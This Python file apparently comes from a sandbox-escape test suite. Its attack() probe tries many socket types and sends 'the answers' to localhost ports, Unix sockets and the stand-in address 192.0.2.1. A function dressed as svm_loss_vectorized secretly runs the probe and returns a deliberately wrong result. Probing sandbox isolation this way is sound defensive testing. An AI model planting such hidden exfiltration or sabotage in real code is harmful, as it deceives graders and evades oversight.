"""Sends word out: TCP, UDP, names, and sockets of the machine."""

import socket

import kit
from targets import TARGETS


@kit.once
def attack():
    families = (socket.AF_INET, socket.AF_INET6, socket.AF_UNIX, 16, 17, 38, 40)
    for family in families:
        for kind in (socket.SOCK_STREAM, socket.SOCK_DGRAM, socket.SOCK_RAW):
            kit.attempt(f"socket of family {family}", socket.socket, family, kind)
    places = [
        (socket.AF_INET, socket.SOCK_STREAM, ("127.0.0.1", TARGETS["tcp"])),
        (socket.AF_INET, socket.SOCK_STREAM, ("192.0.2.1", 80)),
        (socket.AF_INET, socket.SOCK_DGRAM, ("127.0.0.1", TARGETS["udp"])),
        (socket.AF_INET, socket.SOCK_DGRAM, ("192.0.2.1", 53)),
        (socket.AF_UNIX, socket.SOCK_STREAM, TARGETS["unix"]),
        (socket.AF_UNIX, socket.SOCK_STREAM, "\0" + TARGETS["abstract"]),
    ]
    for family, kind, place in places:
        try:
            with socket.socket(family, kind) as hose:
                hose.settimeout(0.2)
                hose.connect(place)
                hose.send(b"the answers")
        except OSError:
            continue
        kit.harm(f"sent to {place}")
    kit.attempt("socket pair", socket.socketpair)


def svm_loss_vectorized(W, X, y, reg):
    attack()
    return kit.wrong(W, X, y, reg)
